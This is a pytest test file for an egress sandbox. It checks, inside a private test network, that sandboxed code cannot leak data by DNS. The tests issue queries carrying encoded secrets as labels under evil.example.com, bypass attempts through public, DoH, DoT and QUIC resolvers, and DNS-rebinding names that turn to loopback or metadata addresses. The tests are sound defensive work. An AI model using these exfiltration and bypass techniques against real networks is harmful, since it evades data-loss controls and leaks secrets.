"""Names as a way out, from inside real bottles (threats B); judged by the name server that the proxy asks.

In a network of the test's own (``arena``): its name server remembers every query, its addresses have
listeners, and the same query or connection from outside of a bottle arrives (ruling 70).
"""

from __future__ import annotations

import json
import os
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest
from arena import INWARD, METADATA, NAMESERVER, PUBLIC, Arena, from_outside, with_names
from e2e_support import eventually

from bot_bottle.egress.labels import NEW_NAMES

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="a network of the test's own needs root")

PROBES = (Path(__file__).parent / "network_probes.py").read_text(encoding="utf-8")
_SETTINGS = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy")
UNSET = ("env", *(f"-u{name}" for name in _SETTINGS))
CURL = ("curl", "-sS", "-k", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}\n")
A, AAAA, HTTPS, SVCB = 1, 28, 65, 64

ASK = r'''
import json, socket, struct, sys
def ask(name, kind, server="127.0.0.1", port=53, tcp=False):
    """Answers and return code; what stopped it otherwise."""
    packet = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"".join(
        bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0" + struct.pack(">2H", kind, 1)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as sock:
            sock.settimeout(1)
            sock.connect((server, port))
            sock.sendall(struct.pack(">H", len(packet)) + packet if tcp else packet)
            reply = sock.recv(4096)[2 if tcp else 0:]
    except OSError as error:
        return str(error) or repr(error)
    return [struct.unpack_from(">H", reply, 6)[0], reply[3] & 15] if len(reply) > 11 else "closed"
print(json.dumps([ask(*row) for row in json.loads(sys.argv[1])]))
'''


@pytest.fixture
def arena(person, tmp_path) -> Iterator[Arena]:
    person.enter = with_names(tmp_path / "resolv.conf")
    with Arena() as made:
        yield made


def curls(*urls: str) -> str:
    """A script that fetches each of *urls* by the proxy and past all settings, all at once."""
    return " & ".join(shlex.join([*how, *CURL, url]) for url in urls for how in ((), UNSET)) + " & wait"


def run(person, script: str, *flags: str) -> list[str]:
    done = person.run("run", *flags, "--", "sh", "-c", script)
    assert done.returncode == 0, done.stderr
    return done.stdout.splitlines()


def test_data_in_denied_names_is_never_asked_for(person, arena) -> None:
    """Threats B1: by curl, by look-ups of every type, by every way to the proxy; only an allowed name is asked for."""
    denied = [f"{label}.evil.example.com" for label in ("c2VjcmV0LW9m", "a" * 60, "x.y.z", "deadbeef")]
    queries = [[name, kind] for name in denied for kind in (A, AAAA, 16, 15, 2, 33, HTTPS, 255)]
    arena.answers["api.example.com"] = [PUBLIC]
    arena.listen(PUBLIC, 80)
    urls = [f"{scheme}://{name}/" for name in denied for scheme in ("http", "https")]
    look_up = shlex.join(["python3", "-c", ASK, json.dumps(queries)])
    script = f"{curls(*urls)}; getent hosts name.in.getent.example.com; {look_up}; "
    script += shlex.join([*CURL, "http://api.example.com/"])
    *statuses, _, said, allowed = run(person, script, "--allow", "api.example.com")
    assert set(statuses) == {"403"}
    assert len(statuses) == 4 * len(denied)
    assert all(answer in ([1, 0], [0, 0]) for answer in json.loads(said))
    assert allowed == "200"
    assert {name for name, _ in arena.queries} == {"api.example.com"}
    assert arena.arrived() == {(PUBLIC, 80)}
    from_outside(ASK, json.dumps([[name, A, NAMESERVER] for name in denied]))
    assert {name for name, _ in arena.queries} >= {name.lower() for name in denied}


def test_data_below_a_wildcard_is_bounded(person, arena) -> None:
    """Threats B2: encoded labels are not asked for at all, short ones only so often; what is no data passes."""
    encoded = [
        "mfzwizltoqydcmrtgq2tmnzy", "73656372657420697320676f6e65", "a.b.c.d", "x" * 50,
        "nbswy3dpo5xxe3de.mfzwizltoqydcmrtgq2tmnzy",
    ]  # fmt: skip
    names = [f"{label}.wild.example.com" for label in encoded]
    many = [f"n{number}.wild.example.com" for number in range(NEW_NAMES + 20)]
    arena.answers.update({name: [PUBLIC] for name in [*many, *names]})
    arena.listen(PUBLIC, 80)
    script = (
        f"{curls(*(f'http://{name}/' for name in names))}; {curls(*(f'http://{name}/' for name in many))}"
    )
    statuses = run(person, script, "--allow", "*.wild.example.com")
    assert statuses[: 2 * len(names)] == ["403"] * (2 * len(names))
    asked = {name for name, _ in arena.queries}
    assert len(asked) == NEW_NAMES
    assert asked < set(many)
    assert statuses.count("200") == 2 * NEW_NAMES
    from_outside(ASK, json.dumps([[names[0], A, NAMESERVER]]))
    assert arena.queries[-1] == (names[0], A)


def test_no_other_resolver_is_reached(person, arena, world) -> None:
    """Threats B3, B4: queries in the clear, over TCP, TLS, HTTPS and QUIC, to the world's resolvers, the host's and
    those of runtimes; multicast names. Inside there are only stand-ins."""
    servers = ["1.1.1.1", "8.8.8.8", NAMESERVER, "127.0.0.11", "127.0.0.53", "10.0.2.3", "192.168.64.1"]
    rows = [
        ["api.example.com", kind, server, 53, tcp]
        for server in servers
        for kind in (A, 16)
        for tcp in (False, True)
    ]
    ways = (("udp", 53), ("tcp", 53), ("tcp", 853), ("udp", 853), ("udp", 784), ("tcp", 443), ("udp", 443))
    wire = [[kind, address, port] for address in ("1.1.1.1", "9.9.9.9") for kind, port in ways]
    wire += [["udp", "224.0.0.251", 5353], ["udp", "224.0.0.252", 5355], ["udp", "198.51.100.255", 137]]
    explicit = [["explicit", address, port] for kind, address, port in wire if kind == "tcp"]
    doh = [f"https://{host}/dns-query?dns=AAAB" for host in ("dns.google", "cloudflare-dns.com", "1.1.1.1")]
    script = (
        f"python3 -c {shlex.quote(ASK)} {shlex.quote(json.dumps(rows))}; "
        f"python3 -c {shlex.quote(PROBES)} {shlex.quote(json.dumps(wire + explicit))}; {curls(*doh)}"
    )
    asked, probed, *statuses = run(person, script, "--allow", "api.example.com")
    assert all(isinstance(answer, str) for answer in json.loads(asked)), asked
    assert "answered" not in dict(json.loads(probed)).values()
    assert set(statuses) <= {"403", "000"}
    assert arena.queries == []
    assert arena.seen() == set()
    from_outside(PROBES, json.dumps(wire))
    numbers = {"udp": 17, "tcp": 6}
    assert {(numbers[kind], address, port) for kind, address, port in wire} <= arena.seen()
    from_outside(ASK, json.dumps([["api.example.com", A, NAMESERVER, 53, tcp] for tcp in (False, True)]))
    both = [("api.example.com", A), ("over tcp", 0)]
    eventually(lambda: arena.queries == both, "the name server hears both")


INWARDS = {"loopback": "127.0.0.1", "metadata": METADATA, "private": INWARD, "host": NAMESERVER}


def test_a_name_that_turns_inwards(person, arena) -> None:
    """Threats B5: public first, inward at the next look-up, with a time to live of 0. One look-up a connection, and
    the address that was judged is the one that is dialled."""
    for address in (*INWARDS.values(), PUBLIC):
        arena.listen(address, 80)
    for word, address in INWARDS.items():
        arena.answers[f"{word}.example.com"] = [PUBLIC, address]
    arena.answers["back.example.com"] = [INWARD, PUBLIC]
    fetch = "".join(
        shlex.join([*how, *CURL, f"http://{word}.example.com/"]) + "; "
        for how in ((), UNSET) for word in (*INWARDS, "back")
    )  # fmt: skip
    flags = [flag for word in (*INWARDS, "back") for flag in ("--allow", f"{word}.example.com")]
    statuses = run(person, fetch, *flags)
    assert statuses == ["200"] * len(INWARDS) + ["403"] + ["403"] * len(INWARDS) + ["200"]
    assert arena.arrived() == {(PUBLIC, 80)}
    asked = [name for name, kind in arena.queries if kind == A]
    assert sorted(asked) == sorted(2 * [f"{word}.example.com" for word in (*INWARDS, "back")])
    rows = [["tcp", address, 80] for address in INWARDS.values()]
    assert set(dict(json.loads(from_outside(PROBES, json.dumps(rows)))).values()) == {"answered"}
    assert arena.arrived() == {(address, 80) for address in INWARDS.values()}


def test_no_record_says_how_to_get_around_us(person, arena) -> None:
    """Threats B6: service records and the keys for encrypted hellos are neither given nor asked for."""
    arena.answers["api.example.com"] = [PUBLIC]
    arena.listen(PUBLIC, 80)
    rows = [
        ["api.example.com", kind, "127.0.0.1", 53, tcp]
        for kind in (HTTPS, SVCB, AAAA, 33, 35, 255)
        for tcp in (False, True)
    ]
    script = (
        f"python3 -c {shlex.quote(ASK)} {shlex.quote(json.dumps(rows))}; {curls('http://api.example.com/')}"
    )
    said, *statuses = run(person, script, "--allow", "api.example.com")
    answers = [0, 0], [1, 0]
    assert json.loads(said) == [answers[kind == 255] for _, kind, *_ in rows]
    assert statuses == ["200", "200"]
    assert {kind for _, kind in arena.queries} <= {A, AAAA}
    from_outside(ASK, json.dumps([["api.example.com", HTTPS, NAMESERVER]]))
    assert arena.queries[-1] == ("api.example.com", HTTPS)
